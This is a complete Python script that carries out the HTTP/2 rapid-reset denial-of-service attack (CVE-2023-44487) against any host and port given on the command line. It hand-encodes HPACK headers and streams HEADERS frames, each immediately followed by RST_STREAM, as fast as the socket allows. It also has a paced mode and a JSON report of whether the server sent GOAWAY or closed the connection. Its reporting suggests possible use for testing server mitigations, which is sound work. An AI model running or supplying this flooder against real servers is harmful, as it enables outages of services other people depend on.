#!/usr/bin/python3
"""The HTTP/2 rapid-reset attack (CVE-2023-44487) on a raw socket:
    h2flood.py HOST PORT AUTHORITY COUNT [--linger S] [--gap S]

Sends the client preface and an empty SETTINGS, then COUNT times a GET's HEADERS (END_HEADERS | END_STREAM; every
field an HPACK "literal without indexing, new name", hand-encoded) at once followed by RST_STREAM(CANCEL), on
streams 1, 3, 5, ... It writes as fast as the socket takes, reading without blocking all along (SETTINGS acked,
PING answered), and stops at the peer's GOAWAY or close; with everything sent it waits up to --linger seconds
(5) for either. With --gap, one stream at a time: its HEADERS, then its RST_STREAM S seconds later (the request
has gone upstream by then). Standard library only. One JSON line on standard output:
  {"sent": streams whose two frames went out whole, "goaway": bool, "goaway_error": code or null,
   "last_stream_id": the GOAWAY's or null, "closed": the peer closed or reset the connection, "seconds"}
"""
import json
import select
import socket
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
BATCH = 64


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream & 0x7FFFFFFF) + payload


def integer(value, prefix_bits, first=0):
    """HPACK integer (RFC 7541 5.1) with the high bits of its first byte in `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 | 0x80)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2): 0x00, then name and value, no Huffman."""
    name, value = name.encode(), value.encode()
    return b"\x00" + integer(len(name), 7) + name + integer(len(value), 7) + value


def parse(incoming, queue):
    """Takes the whole frames off `incoming`: acks SETTINGS, answers PING; the GOAWAY's (last stream, code) if one
    came."""
    goaway = None
    while len(incoming) >= 9 and len(incoming) >= 9 + int.from_bytes(incoming[0:3], "big"):
        length, kind, flags = int.from_bytes(incoming[0:3], "big"), incoming[3], incoming[4]
        payload = bytes(incoming[9:9 + length])
        del incoming[:9 + length]
        if kind == SETTINGS and not flags & ACK:
            queue(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            queue(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and length >= 8:
            last, code = struct.unpack(">II", payload[:8])
            goaway = goaway or (last & 0x7FFFFFFF, code)
    return goaway


def main():
    args = sys.argv[1:]
    options = {"--linger": 5.0, "--gap": 0.0}
    for name in options:
        if name in args:
            at = args.index(name)
            options[name] = float(args[at + 1])
            del args[at:at + 2]
    linger, gap = options["--linger"], options["--gap"]
    if len(args) != 4:
        sys.exit(__doc__)
    host, port, authority, count = args[0], int(args[1]), args[2], int(args[3])
    block = (literal(":method", "GET") + literal(":scheme", "http") + literal(":path", "/")
             + literal(":authority", authority))

    start = time.monotonic()
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.setblocking(False)
    outgoing = bytearray()
    queued = written = 0  # bytes ever queued and ever written

    def queue(data):
        nonlocal queued
        outgoing.extend(data)
        queued += len(data)

    queue(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    ends = []  # where each stream's two frames end in the bytes queued: it counts as sent once written past
    generated = sent = 0
    incoming = bytearray()
    goaway, closed, done_at = None, False, None

    pending = None  # with --gap: the stream whose RST_STREAM is due, and when
    while not closed and goaway is None:
        if gap and pending is None and generated < count:
            pending = (2 * generated + 1, time.monotonic() + gap)
            queue(frame(HEADERS, END_HEADERS | END_STREAM, pending[0], block))
        elif gap and pending is not None and time.monotonic() >= pending[1]:
            queue(frame(RST_STREAM, 0, pending[0], struct.pack(">I", CANCEL)))
            ends.append(queued)
            generated += 1
            pending = None
        elif not gap and generated < count and len(outgoing) < 64 * 1024:
            for _ in range(min(BATCH, count - generated)):
                stream = 2 * generated + 1
                queue(frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
                      + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                ends.append(queued)
                generated += 1
        if generated == count and not outgoing and done_at is None:
            done_at = time.monotonic()
        if done_at is not None and time.monotonic() - done_at > linger:
            break
        readable, writable, _ = select.select([sock], [sock] if outgoing else [], [], min(0.1, gap or 0.1))
        if readable:
            try:
                chunk = sock.recv(65536)
                closed = chunk == b""
            except (BlockingIOError, InterruptedError):
                chunk = b""
            except OSError:
                chunk, closed = b"", True
            incoming += chunk
            goaway = goaway or parse(incoming, queue)
        if writable and outgoing and not closed:
            try:
                count_written = sock.send(outgoing)
            except (BlockingIOError, InterruptedError):
                count_written = 0
            except OSError:
                count_written, closed = 0, True
            del outgoing[:count_written]
            written += count_written
            while sent < len(ends) and ends[sent] <= written:
                sent += 1

    # The peer may have sent GOAWAY and then reset (it closed with our frames unread): the GOAWAY waits in the
    # receive queue ahead of the reset.
    while goaway is None:
        try:
            chunk = sock.recv(65536)
        except OSError:
            break
        if not chunk:
            break
        incoming += chunk
        goaway = parse(incoming, lambda data: None)
    sock.close()
    print(json.dumps({
        "sent": sent, "goaway": goaway is not None, "goaway_error": goaway[1] if goaway else None,
        "last_stream_id": goaway[0] if goaway else None, "closed": closed,
        "seconds": round(time.monotonic() - start, 3),
    }), flush=True)


if __name__ == "__main__":
    main()
